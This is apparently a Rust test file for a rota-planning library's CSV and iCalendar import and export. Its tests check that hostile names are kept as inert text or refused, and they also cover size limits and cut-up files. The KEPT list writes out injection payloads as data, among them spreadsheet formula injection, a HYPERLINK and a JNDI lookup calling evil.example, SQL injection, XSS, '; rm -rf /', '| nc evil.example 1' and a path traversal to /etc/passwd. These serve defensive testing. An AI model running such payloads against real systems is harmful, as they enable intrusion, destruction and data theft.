//! What somebody would like to smuggle in by a name: it is kept as it is and never more than a
//! text, or it is refused.

use rotaline_exchange::{Extent, MAX_FAULTS, MAX_FILE_BYTES, PlanFile, Reading, Rotas, write};
use rotaline_routing::{ItemKey, ItemKind, Items};

use crate::{NOW, WHOLE, faults, file, read, whole};

/// Kept: whatever reads it back has the same text.
const KEPT: [&str; 28] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=1+1",
    "''",
    "'; DROP TABLE plan_items; --",
    "1' OR '1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "$(reboot)",
    "`reboot`",
    "; rm -rf /",
    "| nc evil.example 1",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "[person.eve]",
    "\"\"\"",
    "\\\\u0000",
    "]]></x>",
    "Robert\"); DROP TABLE people;--",
    "null",
    "ＡＤＭＩＮ",
    "Zo\u{308}e 👩‍⚕️",
    "BEGIN:VEVENT",
];

/// Refused, with its line.
const REFUSED: [&str; 22] = [
    "\0",
    "a\0b",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}]0;title\u{7}",
    "a\rb",
    "a\nb",
    "a\r\nX-Header: b",
    "a\tb",
    "\u{8}\u{8}\u{8}",
    "\u{7f}",
    "x\u{85}y",
    "\u{9b}31m",
    "Elm \u{202e}yregruS",
    "\u{202a}x",
    "\u{2066}x\u{2069}",
    "x\u{2028}y",
    "x\u{2029}y",
    "\u{200b}\0",
    "END\u{0}:VCALENDAR",
    "a\u{c}b",
    "a\u{b}b",
    "a\u{1f}b",
];

fn sheet(name: &str) -> String {
    format!("id,name\r\nelm,\"{}\"\r\n", name.replace('"', "\"\""))
}

#[test]
fn fifty_hostile_names_are_kept_as_text_or_refused() {
    for name in KEPT {
        let (items, plan) = read(&[("practices.csv", &sheet(name))]).unwrap();
        let elm = ItemKey::new(ItemKind::Practice, "elm");
        let expected = name
            .strip_prefix('\'')
            .filter(|rest| rest.starts_with(['=', '\'']));
        let expected = expected.unwrap_or(name);
        assert_eq!(items.get(&elm).unwrap().text_at("name"), Some(expected));
        assert_eq!(items.iter().count(), 6, "and nothing else: {name}");
        assert!(plan.practice_with_code("1").is_none());
        for rotas in [Rotas::Sheets, Rotas::Calendars] {
            let files = write(&items, rotas);
            assert_eq!(whole(&files).unwrap().0, items, "{name}");
            let written = files
                .iter()
                .find(|file| &*file.name == "practices.csv")
                .unwrap();
            let text = String::from_utf8(written.bytes.clone()).unwrap();
            let cells = text.split(['\n', ',']).map(|it| it.trim_start_matches('"'));
            for cell in cells {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t']),
                    "a formula: {text}"
                );
            }
        }
    }
    for name in KEPT {
        let people = sheet(name).replace("elm", "eve");
        let people = people
            .replace("id,name", "id,name,phones")
            .replace("\"\r\n", "\",mobile 07700 900109\r\n");
        let rota = "entry,times,people\nweekly,daily 00:00-24:00,eve\n";
        let (items, _) = read(&[("people.csv", &people), ("rotas/cardiology.csv", rota)]).unwrap();
        let calendars = write(&items, Rotas::Calendars);
        let names: Vec<&str> = calendars.iter().map(|it| &*it.name).collect();
        assert!(names.contains(&"rotas/cardiology.ics"), "{name}");
        assert_eq!(whole(&calendars).unwrap().0, items, "{name}");
    }
    for name in REFUSED {
        let found = faults(&[("practices.csv", &sheet(name))]);
        let refused = found
            .iter()
            .any(|it| it.starts_with("practices.csv:2: name: "));
        assert!(refused, "{name:?}: {found:?}");
        assert!(
            !found.concat().contains(char::is_control),
            "told inertly: {found:?}"
        );
    }
}

#[test]
fn ids_are_no_paths() {
    for id in [
        "../x", "a/b", "a b", "..", "ANN", "a\u{1b}", "é", "-a", "a.b",
    ] {
        let people = format!("id,name,phones\n\"{id}\",Ann,mobile 07700 900101\n");
        let found = faults(&[("people.csv", &people)]);
        assert!(
            found.iter().any(|it| it.starts_with("people.csv:2: id: ")),
            "{id}: {found:?}"
        );
    }
}

#[test]
fn what_is_too_large_is_refused_at_its_bound() {
    let long = "x".repeat(201);
    assert!(read(&[("practices.csv", &sheet(&long[1..]))]).is_ok());
    assert_eq!(faults(&[("practices.csv", &sheet(&long))]).len(), 1);
    let cell = "x".repeat(64 * 1024 + 1);
    let found = faults(&[("practices.csv", &sheet(&cell))]);
    assert!(
        found[0].contains("a cell of more than 65536 bytes"),
        "{found:?}"
    );
    let rows = format!("id,name\n{}", "elm,x\n".repeat(20_001));
    let found = faults(&[("practices.csv", &rows)]);
    assert_eq!(found.len(), MAX_FAULTS + 1);
    assert!(found.last().unwrap().contains("more faults"));
    let huge = PlanFile {
        name: "people.csv".into(),
        bytes: vec![b'\n'; MAX_FILE_BYTES + 1],
    };
    let found = whole(&[file("plan.toml", WHOLE), huge]).unwrap_err();
    assert!(
        found[0].starts_with("people.csv:1: has more than"),
        "{found:?}"
    );
}

#[test]
fn a_calendar_of_far_too_many_dates_is_refused_soon() {
    let event = |number: usize| {
        format!(
            "BEGIN:VEVENT\nSUMMARY:S{number}: ann\nDTSTART:20260105T090000\n\
             DTEND:20260105T100000\nRRULE:FREQ=DAILY;COUNT=1000\nEND:VEVENT\n"
        )
    };
    let events: String = (0..21).map(event).collect();
    let text = format!("BEGIN:VCALENDAR\n{events}END:VCALENDAR\n");
    let found = faults(&[("rotas/cardiology.ics", &text)]);
    let last = "rotas/cardiology.ics:122: these are more than 20000 dates (take out what is past)";
    assert!(found.contains(&last.to_owned()), "{found:?}");
    let many = "BEGIN:VEVENT\nSTATUS:CANCELLED\nDTSTART:20260105\nEND:VEVENT\n".repeat(10_001);
    let text = format!("BEGIN:VCALENDAR\n{many}END:VCALENDAR\n");
    let found = faults(&[("rotas/cardiology.ics", &text)]);
    assert!(
        found
            .iter()
            .any(|it| it.contains("is more than 10000 events")),
        "{}",
        found.len()
    );
}

/// Files of nothing but nonsense, or of a good file with a piece of it gone: faults, no panic.
#[test]
fn what_is_cut_anywhere_is_read_or_refused() {
    let calendar = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:AM: ann\r\n\
        DTSTART;TZID=Europe/London:20260105T090000\r\nDURATION:PT4H\r\n\
        RRULE:FREQ=WEEKLY;BYDAY=MO\r\nEXDATE:20261207\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let rota = "entry,session,dates,times,people,gives,takes\r\nswap,,,,ann; ben,2026-12-02 AM,2026-12-03 AM\r\n";
    for (name, text) in [
        ("rotas/cardiology.ics", calendar),
        ("rotas/cardiology.csv", rota),
        ("people.csv", crate::PEOPLE),
        ("more.toml", WHOLE),
    ] {
        for from in 0..text.len() {
            for length in [1, 7, text.len()] {
                let to = text.len().min(from + length);
                let cut = format!("{}{}", &text[..from], &text[to..]);
                let files = [file("plan.toml", WHOLE), file(name, &cut)];
                let reading = Reading::of(&files, Extent::Whole, &Items::default(), NOW);
                let _ = reading.judged(Items::plan);
            }
        }
    }
}
